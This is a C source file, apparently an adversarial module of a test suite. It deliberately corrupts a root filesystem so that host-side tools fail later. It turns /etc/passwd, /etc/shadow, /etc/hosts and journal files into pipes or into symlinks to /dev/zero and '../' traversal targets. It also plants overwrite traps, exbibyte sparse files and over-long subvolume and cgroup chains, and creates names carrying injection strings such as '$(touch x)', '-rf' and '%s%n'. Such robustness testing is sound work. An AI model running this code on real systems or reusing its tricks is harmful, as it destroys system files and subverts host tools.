/// Leaves a root behind on which the host's tools work later: links out, pipes, devices, names and depths that break them.
#include "attack.h"
#include <linux/btrfs.h>

static int subvolume(int directory, const char *name) {
    struct btrfs_ioctl_vol_args given = {0};
    strncpy(given.name, name, sizeof given.name - 1);
    if (ioctl(directory, BTRFS_IOC_SUBVOL_CREATE, &given) < 0) return -1;
    return openat(directory, name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
}

static void make_read_only(int subvolume) {
    uint64_t flags = BTRFS_SUBVOL_RDONLY;
    ioctl(subvolume, BTRFS_IOC_SUBVOL_SETFLAGS, &flags);
}

/// Read-only ones with children, names of all bytes, and a chain that is longer than a path.
static void subvolumes(const char *place) {
    mkdir(place, 0755);
    int directory = open(place, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (directory < 0) return;
    int outer = subvolume(directory, "read-only");
    if (outer >= 0) {
        int inner = subvolume(outer, "child"), deeper = inner < 0 ? -1 : subvolume(inner, "grandchild");
        make_read_only(deeper);
        make_read_only(inner);
        make_read_only(outer);
    }
    const char *const names[] = {"\xff\xfe not text", "new\nline", "\033[2J", "-rf", " ", "..hidden", "%s%n", "$(touch x)"};
    for (size_t index = 0; index < sizeof names / sizeof *names; index++) subvolume(directory, names[index]);
    char name[252];
    memset(name, 'd', sizeof name - 1);
    name[sizeof name - 1] = 0;
    int chain = dup(directory), depth = 0;
    while (chain >= 0 && depth < 24) {
        // Every second one is a directory: its path, not its name, is too long.
        int next = -1;
        if (depth % 2) next = subvolume(chain, name);
        else if (mkdirat(chain, name, 0755) == 0) next = openat(chain, name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        close(chain);
        chain = next;
        depth++;
    }
    printf("left %d levels below %s\n", depth, place);
}

static void replace_by_link(const char *path, const char *target) {
    unlink(path);
    rmdir(path);
    if (symlink(target, path) == 0) printf("left %s -> %s\n", path, target);
}

static void replace_by_pipe(const char *path) {
    unlink(path);
    if (mkfifo(path, 0666) == 0) printf("left the pipe %s\n", path);
}

/// A subvolume with a file, and beside it what a copy of it could be called, with a link of that file's name.
static void trap(const char *canary) {
    mkdir("/e", 0755);
    int directory = open("/e", O_RDONLY | O_DIRECTORY | O_CLOEXEC), inner = directory < 0 ? -1 : subvolume(directory, "a");
    if (inner < 0) return;
    int file = openat(inner, "f", O_WRONLY | O_CREAT, 0644);
    if (write(file, "overwritten", 11) != 11) return;
    const char *const names[] = {"a.dish-new", "a.new", "a.tmp", "a~", ".a"};
    for (int index = 0; index < 5; index++) {
        char path[64];
        mkdirat(directory, names[index], 0755);
        snprintf(path, sizeof path, "%s/f", names[index]);
        if (symlinkat(canary, directory, path) == 0) printf("left /e/%s -> %s\n", path, canary);
    }
}

int leave_main(void) {
    const char *canary = fact("canary") ?: "/etc/dish-canary";
    char out[PATH_MAX];
    snprintf(out, sizeof out, "../../../../../../../../../../../..%s", canary);
    trap(canary);
    subvolumes("/srv/left");
    subvolumes("/var/log/journal/left");
    subvolumes("/left");
    replace_by_pipe("/etc/hosts");
    replace_by_pipe("/etc/group");
    replace_by_pipe("/etc/os-release");
    replace_by_pipe("/usr/lib/os-release");
    replace_by_pipe("/etc/machine-id");
    replace_by_link("/etc/passwd", "/dev/zero");
    replace_by_link("/etc/resolv.conf", out);
    replace_by_link("/etc/hostname", out);
    replace_by_link("/etc/shadow", out);
    replace_by_link("/etc/localtime", canary);
    replace_by_link("/srv/out", canary);
    replace_by_link("/srv/up", "/../../../../../../..");
    replace_by_link("/root/.ssh", "/");
    replace_by_link("/var/log/journal/canary.journal", out);
    replace_by_pipe("/var/log/journal/system.journal");
    // Holes of an exbibyte, where something would read or hash them.
    const char *const sparse[] = {"/srv/hole", "/etc/dish-hole", "/var/log/journal/hole.journal", "/etc/gshadow"};
    for (int index = 0; index < 4; index++) {
        int file = open(sparse[index], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (file >= 0 && ftruncate(file, 1LL << 60) == 0) printf("left the hole %s\n", sparse[index]);
    }
    for (int index = 0; index < 3000; index++) {
        char path[64];
        snprintf(path, sizeof path, "/srv/left/file-%d", index);
        close(open(path, O_WRONLY | O_CREAT, 0));
    }
    // Control groups whose path is longer than a path may be.
    int depth = 0;
    if (chdir("/sys/fs/cgroup") == 0 || chdir("/sys/fs/cgroup/unified") == 0) {
        char name[200];
        memset(name, 'g', sizeof name - 1);
        name[sizeof name - 1] = 0;
        while (depth < 40 && mkdir(name, 0755) == 0 && chdir(name) == 0) depth++;
    }
    printf("left %d control groups\n", depth);
    return 0;
}
